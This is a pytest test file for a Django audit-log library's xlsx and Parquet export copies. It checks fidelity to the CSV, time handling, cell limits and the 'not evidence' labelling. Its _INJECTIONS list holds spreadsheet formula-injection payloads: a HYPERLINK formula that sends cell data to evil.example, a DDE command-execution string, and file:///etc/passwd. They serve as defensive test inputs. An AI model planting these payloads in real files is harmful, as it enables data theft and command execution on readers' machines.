"""Copies for reading (xlsx, Parquet): the rows of the csv, nothing that runs, and in every place that they are not evidence."""

from __future__ import annotations

import csv
import gc
import io
import json
import re
import sys
import tempfile
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any
from uuid import UUID

import openpyxl
import pyarrow as pa
import pytest
from django.core.exceptions import ImproperlyConfigured
from pyarrow import parquet as pq

from auditkit_django import auditlog
from auditkit_django.evidence import parquet, xlsx
from auditkit_django.evidence.copies import NOT_EVIDENCE, write_parquet, write_xlsx
from auditkit_django.evidence.tables import cells, csv_lines
from auditkit_django.ledger.entry import format_time
from auditkit_django.ledger.evidence.rows import COLUMNS, restored
from auditkit_django.query.filters import EventFilter
from auditkit_django.query.pages import ListedEvent, each_event
from auditkit_django.testing import append_now
from tests.host.models import Organization

_SAID = {"Tenant": "acme", "Filter": "all events", "Exported at": "2026-04-01 08:00:00 UTC"}
_TIMES = ("occurred_at", "recorded_at")
_JSON = ("on_behalf_of", "targets", "changes", "metadata", "context")


def _event(**fields: Any) -> ListedEvent:
    plain: dict[str, Any] = {
        "id": UUID("019a0b1c-2cf0-7a11-9b22-0c33d44e55f6"),
        "tenant": "acme",
        "occurred_at": datetime(2026, 3, 1, 9, 29, 59, 998877, tzinfo=UTC),
        "recorded_at": datetime(2026, 3, 1, 9, 30, tzinfo=UTC),
        "action": "member.invited",
        "category": "members",
        "severity": "info",
        "outcome": "success",
        "summary": "",
        "actor": {"type": "user", "id": "7", "name": "Ada"},
        "on_behalf_of": None,
        "targets": [],
        "context": {},
        "changes": [],
        "metadata": {},
        "seq": 0,
        "entry": b"{}",
        "leaf_hash": bytes(32),
    }
    return ListedEvent(**{**plain, **fields})


def _named(name: str) -> ListedEvent:
    return _event(actor={"type": "user", "id": "7", "name": name})


def _xlsx(*events: ListedEvent, title: str = "Audit log", said: dict[str, str] = _SAID) -> io.BytesIO:
    file = io.BytesIO()
    assert write_xlsx(iter(events), file, title=title, said=said) == len(events)
    return file


def _parquet(*events: ListedEvent) -> io.BytesIO:
    file = io.BytesIO()
    assert write_parquet(iter(events), file, said=_SAID) == len(events)
    return file


def _sheets(file: io.BytesIO) -> list[list[dict[str, Any]]]:
    """The rows of each sheet of events, as openpyxl reads them: cells by the header above them."""
    found = []
    for sheet in openpyxl.load_workbook(file).worksheets:
        if sheet.title != "About":
            header, *rows = sheet.iter_rows()
            names = [cell.value for cell in header]
            found.append([dict(zip(names, row, strict=True)) for row in rows])
    return found


def _about(file: io.BytesIO) -> list[list[Any]]:
    return [list(row) for row in openpyxl.load_workbook(file)["About"].iter_rows(values_only=True)]


def _csv_rows(tenant: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO("".join(csv_lines(each_event(tenant, EventFilter()))), newline=""))
    return [{name: restored(cell) for name, cell in row.items()} for row in reader]


@pytest.fixture
def recorded(acme: Organization) -> str:
    """A log of four events, and a pending one: with changes, delegation, formula signs and a time before 1900."""
    auditlog.event("member.invited", tenant=acme, metadata={"note": "=1+1\r\n\u2028", "n": 7}, actor="user:1")
    auditlog.event(
        "member.invited",
        tenant=acme,
        actor=auditlog.Actor("user", "-7", "=Ada", "@ada"),
        on_behalf_of=auditlog.Actor("user", "2", "Joan"),
        resource=auditlog.Target("team", "+1", "Zoë 😀"),
        changes={"role": ("member", "=owner")},
    )
    auditlog.event("member.invited", tenant=acme, occurred_at=datetime(1815, 12, 10, tzinfo=UTC))
    append_now()
    auditlog.event("member.invited", tenant=acme)
    return auditlog.list(acme)[0].tenant  # type: ignore[union-attr]


@pytest.mark.django_db
def test_a_workbook_has_the_rows_of_the_csv(recorded: str) -> None:
    file = io.BytesIO()
    assert write_xlsx(each_event(recorded, EventFilter()), file, title="Log", said=_SAID) == 5
    [rows] = _sheets(file)
    wanted = _csv_rows(recorded)
    assert [{name: row[name].value or "" for name in COLUMNS} for row in rows] == wanted
    assert {row["seq"] for row in wanted} == {"0", "1", "2", "3", ""}
    assert list(rows[0]) == [*(f"{name} (UTC)" if name in _TIMES else name for name in COLUMNS), *_TIMES]


@pytest.mark.django_db
def test_a_parquet_file_has_the_rows_of_the_csv(recorded: str) -> None:
    file = io.BytesIO()
    assert write_parquet(each_event(recorded, EventFilter()), file, said=_SAID) == 5
    table = pq.read_table(file)
    assert table.column_names == list(COLUMNS)
    wanted = _csv_rows(recorded)
    for row, texts in zip(table.to_pylist(), wanted, strict=True):
        shown = {**row, **{name: format_time(row[name]) for name in _TIMES}}
        assert {name: "" if value is None else str(value) for name, value in shown.items()} == texts


def test_times_are_dates_in_utc_and_their_exact_texts() -> None:
    moment = datetime(2026, 3, 1, 23, 59, 59, 998877, tzinfo=UTC).astimezone(timezone(timedelta(hours=-5)))
    [[row]] = _sheets(_xlsx(_event(occurred_at=moment)))
    assert row["occurred_at (UTC)"].is_date
    assert row["recorded_at (UTC)"].value == datetime(2026, 3, 1, 9, 30)
    off = row["occurred_at (UTC)"].value - datetime(2026, 3, 1, 23, 59, 59, 998877)
    assert abs(off) < timedelta(milliseconds=1)
    assert row["occurred_at"].value == "2026-03-01T23:59:59.998877Z"


@pytest.mark.parametrize(
    ("moment", "is_date"),
    [
        pytest.param(datetime(1, 1, 1, tzinfo=UTC), False, id="year 1"),
        pytest.param(datetime(1900, 2, 28, 23, 59, tzinfo=UTC), False, id="before Excel's 29 February 1900"),
        pytest.param(datetime(1900, 3, 1, tzinfo=UTC), True, id="first date"),
        pytest.param(datetime(9999, 12, 31, tzinfo=UTC), True, id="last date"),
    ],
)
def test_a_time_that_is_no_date_to_excel_is_a_text(moment: datetime, is_date: bool) -> None:
    [[row]] = _sheets(_xlsx(_event(occurred_at=moment)))
    cell = row["occurred_at (UTC)"]
    assert cell.is_date is is_date
    assert cell.value == (moment.replace(tzinfo=None) if is_date else format_time(moment))


_INJECTIONS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", "  =1", "＝1", "'quoted", "{=1}", "=", "1", "1e5", "TRUE", "#REF!",  # noqa: RUF001
    '=HYPERLINK("https://evil.example/?"&A1)', "=cmd|' /C calc'!A0", "https://evil.example/", "mailto:a@evil.example",
    "internal:Sheet2!A1", "file:///etc/passwd", "<r></r>", "<r>&</r>", "<r><t>a</t></r>", "<r>a</r>\n</r>",
    '<r></r></is></c><c r="A9"><f>1+1</f></c><c><is><r></r>', "]]>", "<f>1</f>", "&amp;", "\u202eabc",
]  # fmt: skip


@pytest.mark.parametrize("name", _INJECTIONS, ids=repr)
def test_a_cell_of_a_workbook_is_the_text_that_was_recorded_and_never_runs(name: str) -> None:
    file = _xlsx(_named(name), title=name, said={name: name})
    [[row]] = _sheets(file)
    assert (row["actor_name"].value, row["actor_name"].data_type, row["actor_name"].hyperlink) == (name, "s", None)
    assert {cell.data_type for cell in row.values()} <= {"s", "d", "n"}
    assert [cell.coordinate for cell in row.values() if cell.data_type == "n" and cell.value is not None] == []
    assert [name, name] in [line[:2] for line in _about(file)]
    with zipfile.ZipFile(file) as parts:
        for part in parts.namelist():
            if "worksheets/" in part:
                assert re.search(rb"<f[ >/]|<hyperlink", parts.read(part)) is None


@pytest.mark.parametrize("name", ["_x0041_", "_x000D_"])
def test_a_text_that_looks_like_an_escape_is_escaped_as_excel_does(name: str) -> None:
    with zipfile.ZipFile(_xlsx(_named(name))) as parts:
        assert f"<t>_x005F{name}</t>".encode() in parts.read("xl/worksheets/sheet1.xml")


def test_control_characters_are_shown_by_their_pictures_and_counted() -> None:
    file = _xlsx(_named("a\0b\x1b\r\n\tc\ufffe\ud800\x85"), _named("plain"))
    [[row, _plain]] = _sheets(file)
    assert row["actor_name"].value == "a␀b␛␍\n\tc\ufffd\ufffd\x85"
    [line] = [text for label, text in _about(file) if label == "Cells with control characters"]
    assert line.startswith("1 ")


_LIMIT = 32_767
_MARK = " … [cut: {} characters in all]".format


@pytest.mark.parametrize(
    ("text", "kept", "mark"),
    [
        pytest.param("x" * _LIMIT, "x" * _LIMIT, "", id="fits"),
        pytest.param("x" * (_LIMIT + 1), "x" * (_LIMIT - 34), _MARK("32,768"), id="one too long"),
        pytest.param("x" + "😀" * 16_383, "x" + "😀" * 16_383, "", id="two units each, fits"),
        pytest.param(
            "😀" * 16_384, "😀" * 16_366, _MARK("16,384"), id="two units each, one too long, no half of a pair"
        ),
        pytest.param("<r>" + "x" * _LIMIT + "</r>", "<r>" + "x" * (_LIMIT - 37), _MARK("32,774"), id="markup"),
    ],
)
def test_a_text_beyond_the_limit_of_a_cell_is_cut_visibly_and_counted(text: str, kept: str, mark: str) -> None:
    file = _xlsx(_named(text), _named("plain"))
    [[row, _plain]] = _sheets(file)
    assert row["actor_name"].value == kept + mark
    assert _LIMIT - 1 <= len(row["actor_name"].value.encode("utf-16-le")) / 2 <= _LIMIT
    [line] = [text for label, text in _about(file) if label == "Cells that were cut"]
    assert line.startswith("1 " if mark else "0 ")


def test_events_beyond_the_limit_of_a_sheet_go_on_in_a_further_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "_MAX_ROWS", 3)
    file = _xlsx(*(_event(seq=seq) for seq in range(5)))
    assert [[row["seq"].value for row in rows] for rows in _sheets(file)] == [["0", "1"], ["2", "3"], ["4"]]
    book = openpyxl.load_workbook(file)
    assert book.sheetnames == [
        "Events (not evidence)",
        "About",
        "Events 2 (not evidence)",
        "Events 3 (not evidence)",
    ]
    assert [book.worksheets[at].auto_filter.ref for at in (0, 2, 3)] == ["A1:Y3", "A1:Y3", "A1:Y2"]
    assert ["Sheets of events", "3"] in _about(file)


def test_a_sheet_beyond_the_limit_of_plain_zip_files_is_written(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(zipfile, "ZIP64_LIMIT", 2000)
    assert [len(rows) for rows in _sheets(_xlsx(*[_event()] * 20))] == [20]


def test_a_sheet_that_is_just_full_is_the_only_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "_MAX_ROWS", 3)
    assert [len(rows) for rows in _sheets(_xlsx(_event(), _event()))] == [2]


def test_a_copy_of_no_events_has_the_columns() -> None:
    sheet = openpyxl.load_workbook(_xlsx())["Events (not evidence)"]
    assert [cell.value for cell in sheet[1]][:3] == ["seq", "id", "occurred_at (UTC)"]
    table = pq.read_table(_parquet())
    assert (table.num_rows, table.column_names) == (0, list(COLUMNS))


@pytest.mark.parametrize(
    "title", ["Log of A & B", "A&G", "A&", "A&[Picture]&[Tab]", "&P&L&R", "x\n&G\1" * 100], ids=repr
)
def test_a_workbook_says_everywhere_that_it_is_not_evidence(title: str) -> None:
    file = _xlsx(_event(), title=title)
    about = _about(file)
    assert about[1][0] == NOT_EVIDENCE
    assert [line[:2] for line in about[3:6]] == [list(line) for line in _SAID.items()]
    assert ["Events", "1"] in about
    book = openpyxl.load_workbook(file)
    assert (book.properties.title or "")[:3] == title[:3]
    assert (book.properties.subject, book.properties.contentStatus) == (NOT_EVIDENCE, "Not evidence")
    assert book.properties.description.split("\n")[:2] == [f"{NOT_EVIDENCE}.", "Tenant: acme"]
    for sheet in book.worksheets:
        assert (sheet.oddHeader.right.text, sheet.oddFooter.left.text) == (NOT_EVIDENCE, NOT_EVIDENCE)
        # Of a code ("&P") nothing is left: each sign stands doubled.
        assert re.search("(?<!&)(?:&&)*&(?!&)", sheet.oddHeader.left.text) is None


def test_what_is_said_stands_beside_a_count_of_the_same_name() -> None:
    about = _about(_xlsx(_event(), said={"Events": "of a year"}))
    assert [text for label, text in about if label == "Events"] == ["of a year", "1"]


def test_a_table_is_ready_to_be_read() -> None:
    sheet = openpyxl.load_workbook(_xlsx(_event())).worksheets[0]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:Y2")
    assert (sheet.print_title_rows, sheet.page_setup.orientation) == ("$1:$1", "landscape")


def test_columns_of_a_parquet_file_are_typed() -> None:
    schema = pq.read_schema(_parquet(_event(seq=None)))
    word = pa.dictionary(pa.int32(), pa.string())
    assert {name: schema.field(name).type for name in ("seq", *_TIMES, "action", "category", "actor_type")} == {
        "seq": pa.int64(),
        **dict.fromkeys(_TIMES, pa.timestamp("us", tz="UTC")),
        **dict.fromkeys(("action", "category", "actor_type"), word),
    }
    assert {schema.field(name).type for name in _JSON} == {pa.string()}
    assert [name for name in COLUMNS if not schema.field(name).nullable] == ["id", *_TIMES]


def test_a_pending_event_has_no_seq_and_no_hash_in_a_parquet_file() -> None:
    [row] = pq.read_table(_parquet(_event(seq=None, leaf_hash=None))).to_pylist()
    assert (row["seq"], row["leaf_hash"], row["on_behalf_of"]) == (None, None, None)


def test_a_parquet_file_says_that_it_is_not_evidence() -> None:
    metadata = pq.read_schema(_parquet(_event())).metadata
    assert json.loads(metadata[b"auditkit"]) == {"copy": NOT_EVIDENCE, "said": _SAID}


@pytest.mark.parametrize("limit", ["_GROUP_ROWS", "_GROUP_CHARACTERS"])
def test_a_parquet_file_is_written_group_by_group(monkeypatch: pytest.MonkeyPatch, limit: str) -> None:
    events = [_event(seq=seq, action=f"action.{seq}") for seq in range(5)]
    size = sum(len(cell) for cell in cells(events[0]))
    monkeypatch.setattr(parquet, limit, 2 if limit == "_GROUP_ROWS" else 2 * size)
    file = _parquet(*events)
    read = pq.ParquetFile(file)
    assert [read.metadata.row_group(at).num_rows for at in range(read.num_row_groups)] == [2, 2, 1]
    assert read.read().column("action").to_pylist() == [f"action.{seq}" for seq in range(5)]


class _Pipe:
    """A file that can be written to, and nothing else."""

    closed = False

    def __init__(self, *, room: int = 2**31) -> None:
        self.data, self._room = bytearray(), room

    def write(self, data: bytes) -> int:
        if len(self.data) + len(data) > self._room:
            raise OSError(28, "No space left on device")
        self.data += data
        return len(data)

    def flush(self) -> None:
        pass


Write = Callable[[Iterator[ListedEvent], Any], int]
_both = pytest.mark.parametrize(
    "write",
    [
        pytest.param(lambda events, file: write_xlsx(events, file, title="Log", said=_SAID), id="xlsx"),
        pytest.param(lambda events, file: write_parquet(events, file, said=_SAID), id="parquet"),
    ],
)


@_both
def test_a_copy_goes_to_a_file_that_cannot_seek(write: Write) -> None:
    pipe = _Pipe()
    assert write(iter([_event()]), pipe) == 1
    data = io.BytesIO(bytes(pipe.data))
    rows = _sheets(data)[0] if zipfile.is_zipfile(data) else pq.read_table(data).to_pylist()
    assert len(rows) == 1


@_both
def test_a_copy_that_is_not_finished_cannot_be_taken_for_a_whole_one(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, write: Write
) -> None:
    def broken() -> Iterator[ListedEvent]:
        yield from [_event()] * 3
        raise ConnectionError("the database went away")

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    monkeypatch.setattr(parquet, "_GROUP_ROWS", 2)
    file = io.BytesIO()
    with pytest.raises(ConnectionError, match="went away"):
        write(broken(), file)
    gc.collect()
    assert not zipfile.is_zipfile(file)
    with pytest.raises(pa.ArrowInvalid):
        pq.read_table(file)
    assert list(tmp_path.iterdir()) == []


@_both
@pytest.mark.parametrize("room", [0, 1000])
def test_a_full_disk_is_an_os_error_and_leaves_nothing_behind(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, write: Write, room: int
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with pytest.raises(OSError, match="No space left"):
        write(iter([_event()]), _Pipe(room=room))
    gc.collect()
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(("extra", "library"), [("xlsx", "xlsxwriter"), ("parquet", "pyarrow")])
def test_a_missing_library_names_the_extra_before_any_event_is_read(
    monkeypatch: pytest.MonkeyPatch, extra: str, library: str
) -> None:
    import auditkit_django.evidence as room

    monkeypatch.delattr(room, extra)
    monkeypatch.delitem(sys.modules, f"auditkit_django.evidence.{extra}")
    monkeypatch.setitem(sys.modules, library, None)
    read: list[ListedEvent] = []
    events = (read.append(event) or event for event in [_event()])
    with pytest.raises(ImproperlyConfigured, match=re.escape(f'pip install "auditkit-django[{extra}]"')):
        if extra == "xlsx":
            write_xlsx(events, io.BytesIO(), title="Log", said=_SAID)
        else:
            write_parquet(events, io.BytesIO(), said=_SAID)
    assert read == []


def _traced_peak(write: Callable[[], object]) -> int:
    gc.collect()
    tracemalloc.start()
    try:
        write()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_workbook_takes_the_same_memory_however_many_events_there_are(tmp_path: Path) -> None:
    def peak(count: int) -> int:
        with (tmp_path / "copy.xlsx").open("wb") as file:
            events = (_event(seq=seq, metadata={"x": f"{seq}" * 100}) for seq in range(count))
            return _traced_peak(lambda: write_xlsx(events, file, title="Log", said=_SAID))

    peak(10)
    assert peak(2000) < peak(200) * 1.5


def test_a_parquet_file_takes_the_same_memory_however_many_groups_there_are(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(parquet, "_GROUP_ROWS", 200)
    usual = pa.default_memory_pool()

    def peak(count: int) -> tuple[int, int]:
        """Of Python and of Arrow, which has a memory of its own."""
        pool = pa.proxy_memory_pool(usual)
        pa.set_memory_pool(pool)
        try:
            with (tmp_path / "copy.parquet").open("wb") as file:
                events = (_event(seq=seq, metadata={"x": f"{seq}" * 100}) for seq in range(count))
                return _traced_peak(lambda: write_parquet(events, file, said=_SAID)), pool.max_memory()
        finally:
            pa.set_memory_pool(usual)

    peak(10)
    few, many = peak(400), peak(4000)
    assert few[1] > 0
    assert many[0] < few[0] * 1.5
    assert many[1] < few[1] * 1.5
